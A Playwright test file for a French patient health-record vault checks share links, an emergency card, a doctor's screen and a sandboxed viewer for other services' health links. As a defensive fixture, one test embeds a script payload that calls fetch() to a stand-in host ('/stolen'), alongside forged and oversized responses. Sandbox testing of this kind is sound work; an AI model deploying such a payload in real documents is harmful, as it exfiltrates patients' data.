import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { chromium, expect, test, type BrowserContext, type Page } from '@playwright/test';
import { CompactEncrypt, base64url } from 'jose';
import { accessible } from './harness/accessible';
import { address, launching, serverPort } from './harness/chromium';
import { Person } from './harness/person';
import { Needles } from './harness/search';
import { squareOn } from './harness/square';
import { columns, stored } from './harness/stored';

const TITLE = 'Compte rendu de la hanche';
const TEXT = 'Prothèse posée sans incident, sortie au quatrième jour.';
const CODE = 'marronnier bleu';
const READER = 'Dr Archambault, garde';

/** A page of somebody without an account, at an address that carries a link. */
async function stranger(context: BrowserContext, at: string): Promise<Page> {
  const page = await context.newPage();
  page.setDefaultTimeout(30_000);
  await page.goto(at);
  return page;
}

async function look(page: Page, who: string, code?: string): Promise<void> {
  await page.getByLabel('Qui lit ?').fill(who);
  if (code) await page.getByLabel('Code reçu à part').fill(code);
  await page.getByRole('button', { name: 'Voir', exact: true }).click();
}

const shown = (page: Page) => page.frameLocator('.viewer iframe').locator('body');

test('a link, a card and a doctor’s screen show what was chosen, within their limits, and the owner is told', async () => {
  const began = Date.now();
  const browser = await chromium.launch(launching(serverPort()));
  const options = { locale: 'fr-FR', timezoneId: 'Europe/Paris' };
  const [mine, theirs] = [await browser.newContext(options), await browser.newContext(options)];
  await mine.grantPermissions(['clipboard-read', 'clipboard-write']);
  const jeanne = await Person.at(mine, address('patient'), false);
  const { page } = jeanne;
  const copied = () => page.evaluate(() => navigator.clipboard.readText());
  await jeanne.makeVault('Jeanne Morel');
  await jeanne.press('Ouvrir mon coffre');
  await jeanne.press('Ajouter un premier document');
  await jeanne.choose({ name: 'cr.txt', mimeType: 'text/plain', buffer: Buffer.from(TEXT) }, TITLE);
  await jeanne.press('Sceller et ajouter');
  await page.getByText('Scellé et gardé').waitFor();

  // A link to one document, with a code, for one reading.
  await jeanne.go('Plus');
  await jeanne.press('Montrer à quelqu’un sans compte');
  await jeanne.press('Faire un lien');
  await choose(jeanne);
  await page.getByLabel('Combien de lectures au plus ?').fill('1');
  await page.getByLabel('Un code à dire à part').fill(CODE);
  await jeanne.press('Faire le lien');
  await page.getByText('Le lien est prêt').waitFor();
  await jeanne.press('Copier le lien');
  await page.getByText('Le lien est copié.').first().waitFor();
  const link = await copied();
  await jeanne.press('C’est fait');
  const reader = await stranger(theirs, link);
  await look(reader, READER, 'platane!');
  await reader.getByText('Il reste 9 essais.').waitFor();
  await look(reader, READER, CODE);
  await expect(shown(reader)).toContainText(TEXT);
  expect(new URL(reader.url()).hash).not.toContain('shlink');
  await reader.close();
  const late = await stranger(theirs, link);
  await look(late, READER, CODE);
  await late.getByText('Ce lien n’ouvre plus rien').waitFor();
  await expect(late.locator('iframe')).toHaveCount(0);
  await late.close();

  // The card: its square opens the summary, and the owner is told.
  await jeanne.go('Plus');
  await jeanne.press('Carte d’urgence');
  await jeanne.press('Faire la carte');
  await page.getByText('URGENCE / EMERGENCY').waitFor();
  const card = await squareOn(page);
  const rescuer = await stranger(theirs, card);
  await look(rescuer, 'SAMU 81');
  await expect(shown(rescuer)).toContainText('Allergies et intolérances');
  await rescuer.close();
  await jeanne.go('Plus');
  await jeanne.press('Nouvelles de mon coffre');
  await page.getByText('Votre carte d’urgence a été lue.').waitFor();
  await page.getByText('Un lien que vous avez donné a été ouvert.').waitFor();
  await jeanne.go('Plus');
  await jeanne.press('Carte d’urgence');
  await page.getByText('« SAMU 81 »').waitFor();

  // The doctor's screen: a wrong number shows nothing, the right one shows the document.
  const screen = await stranger(theirs, new URL('/ecran', address('patient')).href);
  await screen.getByText('Il ne garde rien').waitFor();
  const square = await squareOn(screen);
  await jeanne.go('Plus');
  await jeanne.press('Montrer sur l’écran du médecin');
  await choose(jeanne);
  await jeanne.press('Continuer');
  await jeanne.press('Taper à la main');
  await page.getByLabel('Texte sous le carré').fill(square);
  await jeanne.press('Utiliser ce texte');
  const number = screen.getByLabel('Numéro de cet écran');
  const digits = (await number.innerText()).replace(/\D/g, '');
  expect(digits).toHaveLength(6);
  await page.getByText('Êtes-vous devant cet écran').waitFor();
  await page.getByLabel('Le numéro que l’écran montre').fill(digits === '000000' ? '000001' : '000000');
  await jeanne.press('Je donne mon accord');
  await page.getByRole('alert').first().waitFor();
  await expect(screen.locator('iframe')).toHaveCount(0);
  await page.getByLabel('Le numéro que l’écran montre').fill(digits);
  await jeanne.press('Je donne mon accord');
  await expect(shown(screen)).toContainText(TEXT);
  await accessible(screen, 'a screen that is shown something');
  await screen.getByRole('button', { name: 'Fermer maintenant' }).click();
  await screen.getByText('C’est fermé. Rien n’est gardé ici.').waitFor();
  await expect(screen.locator('iframe')).toHaveCount(0);

  // Where a message's link leads, with one that counts no more.
  const contact = await stranger(theirs, new URL(`/contact#${'A'.repeat(43)}`, address('patient')).href);
  await contact.getByRole('button', { name: 'J’accepte ces messages' }).click();
  await contact.getByText('Ce lien ne compte plus.').waitFor();
  expect(contact.url()).not.toContain('AAAA');
  await browser.close();

  const needles = new Needles();
  for (const [what, text] of [
    ['title', TITLE],
    ['text', TEXT],
    ['code', CODE],
    ['reader', READER],
  ] as const)
    needles.text(what, text);
  for (const given of [link, card]) {
    const payload = base64url.decode(given.slice(given.indexOf('shlink:/') + 8));
    const { key } = JSON.parse(new TextDecoder().decode(payload)) as { key: string };
    needles.text('key, written', key);
    needles.bytes('key', Buffer.from(base64url.decode(key)));
  }
  const found = [
    ...stored(began).flatMap(({ path, bytes }) => needles.in(bytes).map((name) => `${path}: ${name}`)),
    ...columns().flatMap(({ column, bytes }) => needles.in(bytes).map((name) => `${column}: ${name}`)),
  ];
  expect(found).toEqual([]);
});

/** Chooses the one document to be shown. */
async function choose(person: Person): Promise<void> {
  const { page } = person;
  await page.getByRole('radio', { name: 'Des documents choisis' }).check();
  await person.press('Choisir un document');
  await page.getByRole('button', { name: TITLE }).first().click();
  await page.getByText('Un document choisi').waitFor();
}

const FOREIGN = 'https://sante.example';
const FILES = new URL('../../server/tests/api/tls/', import.meta.url);

/** Another service that serves links, over TLS; an address of its own that must never be asked. */
function otherService(
  answers: Record<string, () => { status: number; type: string; body: string }>,
  asked: string[],
) {
  const file = (name: string) => readFileSync(new URL(name, FILES));
  const server = createServer({ key: file('relay.key'), cert: file('relay.pem') }, (request, response) => {
    const name = (request.url ?? '/').split(/[/?]/)[1] ?? '';
    asked.push(
      `${request.method} ${request.url} ${request.headers.origin} ${request.headers.cookie ?? '-'} ${request.headers.referer ?? '-'}`,
    );
    const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'content-type' };
    request.resume().on('end', () => {
      if (request.method === 'OPTIONS') return response.writeHead(204, cors).end();
      if (name === 'moved') return response.writeHead(302, { ...cors, location: '/good' }).end();
      const { status, type, body } = answers[name]?.() ?? {
        status: 404,
        type: 'application/json',
        body: '{}',
      };
      response.writeHead(status, { ...cors, 'content-type': type }).end(body);
    });
  });
  return new Promise<Server>((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

test('a link of another service opens on a page that has no origin, no storage and no way to the vault', async () => {
  const key = base64url.encode(Buffer.alloc(32, 7));
  const header = { alg: 'dir', enc: 'A256GCM', cty: 'application/fhir+json' } as const;
  const seal = (text: string, over = {}) =>
    new CompactEncrypt(Buffer.from(text))
      .setProtectedHeader({ ...header, ...over })
      .encrypt(base64url.decode(key));
  const patient = {
    resourceType: 'Patient',
    name: [{ family: 'Okonkwo', given: ['Ada'] }],
    birthDate: '1961-04-02',
  };
  const html = Buffer.from(
    '<script>parent.postMessage(1,"*");fetch("https://sante.example/stolen")</script>',
  );
  const letterFile = {
    resourceType: 'DocumentReference',
    status: 'current',
    description: 'Lettre de sortie',
    content: [{ attachment: { contentType: 'text/html', data: html.toString('base64') } }],
  };
  const [good, letter] = [await seal(JSON.stringify(patient)), await seal(JSON.stringify(letterFile))];
  const manifest =
    (...files: object[]) =>
    () => ({
      status: 200,
      type: 'application/json',
      body: JSON.stringify({
        files: files.map((file) => ({ contentType: 'application/fhir+json', ...file })),
      }),
    });
  const asked: string[] = [];
  const server = await otherService(
    {
      good: manifest({ embedded: good }, { location: `${FOREIGN}/file` }),
      file: () => ({ status: 200, type: 'application/jose', body: letter }),
      locked: () => ({ status: 401, type: 'application/json', body: '{"remainingAttempts":4}' }),
      forged: manifest({ embedded: `${good.slice(0, -4)}${good.endsWith('AAAA') ? 'BBBB' : 'AAAA'}` }),
      insecure: manifest({ location: `http://patient.localhost:${serverPort()}/v1/about` }),
      endless: () => ({ status: 200, type: 'application/json', body: 'A'.repeat(25 << 20) }),
    },
    asked,
  );
  const { port } = server.address() as AddressInfo;
  const rules = `MAP sante.example 127.0.0.1:${port}, MAP *.localhost 127.0.0.1:${serverPort()}, MAP * ~NOTFOUND`;
  const browser = await chromium.launch(launching(serverPort(), `--host-resolver-rules=${rules}`));
  const context = await browser.newContext({
    locale: 'fr-FR',
    ignoreHTTPSErrors: true,
    acceptDownloads: true,
  });
  const linkTo = (name: string, over: object = {}) =>
    `shlink:/${base64url.encode(JSON.stringify({ url: `${FOREIGN}/${name}`, key, label: 'Résumé d’Ada', v: 1, ...over }))}`;

  // From the vault's own page: it names the service, asks nothing of it, and leads to the page apart.
  const first = await stranger(context, `${address('patient')}#${linkTo('good')}`);
  await first.evaluate(() => localStorage.setItem('cachet', 'something of the vault'));
  await first.getByText('un autre service').waitFor();
  expect(asked).toEqual([]);
  const opening = context.waitForEvent('page');
  await first.getByRole('link', { name: 'Ouvrir la page à part' }).click();
  const page = await opening;
  await page.getByText(`Ce lien est servi par ${FOREIGN}.`).waitFor();
  expect(page.url()).toBe(`${address('patient')}lien.html`);
  expect(asked).toEqual([]);
  await accessible(page, 'a link of another service, before it is asked');
  const reached = await page.evaluate(async () => {
    const attempt = (what: () => unknown) => {
      try {
        return String(what());
      } catch (failure) {
        return (failure as Error).name;
      }
    };
    const own = await fetch('/v1/about').then(String, (failure: Error) => failure.name);
    return {
      origin: self.origin,
      storage: attempt(() => localStorage.getItem('cachet')),
      cookie: attempt(() => document.cookie),
      database: attempt(() => indexedDB.open('cachet')),
      worker: attempt(() => navigator.serviceWorker.controller),
      opener: window.opener,
      own,
    };
  });
  expect(reached).toEqual({
    origin: 'null',
    storage: 'SecurityError',
    cookie: 'SecurityError',
    database: 'SecurityError',
    worker: 'SecurityError',
    opener: null,
    own: 'TypeError',
  });
  await look(page, 'Dr Klein');
  const frames = page.locator('.viewer iframe');
  await expect(frames).toHaveCount(2);
  await expect(page.frameLocator('.viewer iframe').first().locator('body')).toContainText('Okonkwo');
  await expect(page.frameLocator('.viewer iframe').nth(1).locator('body')).toContainText('script');
  await accessible(page, 'a link of another service, open');
  const waiting = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Enregistrer', exact: true }).first().click();
  expect(JSON.parse(readFileSync(await (await waiting).path(), 'utf8'))).toEqual(patient);
  // Where it came from, and whose page it was, is said to nobody.
  expect(asked.filter((line) => !line.startsWith('OPTIONS'))).toEqual([
    'POST /good null - -',
    'GET /file null - -',
  ]);

  // What is wrong is refused in words, and shows nothing.
  const before = asked.length;
  await page.getByRole('button', { name: 'Un autre lien' }).click();
  for (const [link, says] of [
    ['https://sante.example/nothing', 'Ce n’est pas un lien de santé.'],
    ['shlink:/e30', 'Ce lien est abîmé ou mal fait.'],
    [linkTo('good', { v: 2 }), 'Ce lien est plus récent que Cachet.'],
    [linkTo('good', { exp: 1_600_000_000 }), 'Ce lien est terminé.'],
    [
      linkTo('good', { url: `http://patient.localhost:${serverPort()}/v1/about` }),
      'une adresse non protégée',
    ],
  ] as const) {
    await page.getByLabel('Le lien').fill(link);
    await page.getByRole('button', { name: 'Regarder ce lien' }).click();
    await page.getByRole('alert').getByText(says).waitFor();
  }
  expect(asked.slice(before)).toEqual([]);
  for (const [name, says, over] of [
    ['unknown', 'Ce lien n’ouvre plus rien.', {}],
    ['locked', 'Il reste 4 essais.', { flag: 'P' }],
    ['forged', 'a été changé', {}],
    ['insecure', 'une adresse non protégée', {}],
    ['endless', 'trop gros', {}],
    ['moved', 'Le réseau ne répond pas.', {}],
  ] as const) {
    await page.goto('about:blank');
    await page.goto(`${address('patient')}lien.html#${linkTo(name, over)}`);
    await look(page, 'Dr Klein', 'flag' in over ? 'platane!' : undefined);
    await page.getByRole('alert').getByText(says).waitFor();
    await expect(page.locator('iframe')).toHaveCount(0);
  }
  expect(asked.some((line) => line.includes('stolen'))).toBe(false);
  await browser.close();
  server.close();
});
